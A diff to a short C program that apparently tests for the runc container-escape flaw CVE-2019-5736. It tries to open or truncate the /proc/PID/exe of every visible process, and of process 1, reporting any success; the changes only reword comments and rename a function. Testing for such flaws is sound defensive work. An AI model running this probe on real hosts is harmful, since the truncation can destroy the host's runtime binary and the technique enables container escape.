@@ -1,5 +1,5 @@
-/* fs_exe.c SECONDS - overwrites the program that starts programs (CVE-2019-5736): for so long,
- * tries to open what every process here runs for writing; others start meanwhile. */
+/* fs_exe SECONDS - tries to overwrite the program that starts programs (CVE-2019-5736): for so
+ * long, opens /proc/PID/exe of every process for writing, while other programs are started. */
 #include <dirent.h>
 #include <fcntl.h>
 #include <stdlib.h>
@@ -19,7 +19,7 @@ static int open_all(void)
 	int got = -1;
 
 	while (proc != NULL && (entry = readdir(proc)) != NULL) {
-		/* Our own is busy, and ours. */
+		/* Our own program fails with ETXTBSY, and would be no escape. */
 		if (entry->d_name[0] < '0' || entry->d_name[0] > '9' ||
 		    atoi(entry->d_name) == getpid())
 			continue;
@@ -27,7 +27,7 @@ static int open_all(void)
 		looked++;
 		if (open(path, O_WRONLY) >= 0 || open(path, O_RDWR) >= 0 ||
 		    truncate(path, 0) == 0) {
-			tell(path, 0);
+			report(path, 0);
 			got = 0;
 		}
 	}
@@ -48,7 +48,7 @@ int main(int argc, char **argv)
 		(void)open_all();
 		(void)wait(NULL);
 	}
-	tell("/proc/1/exe", open("/proc/1/exe", O_WRONLY));
+	report("/proc/1/exe", open("/proc/1/exe", O_WRONLY));
 	printf("looked at %lu\n", looked);
 	return 0;
 }
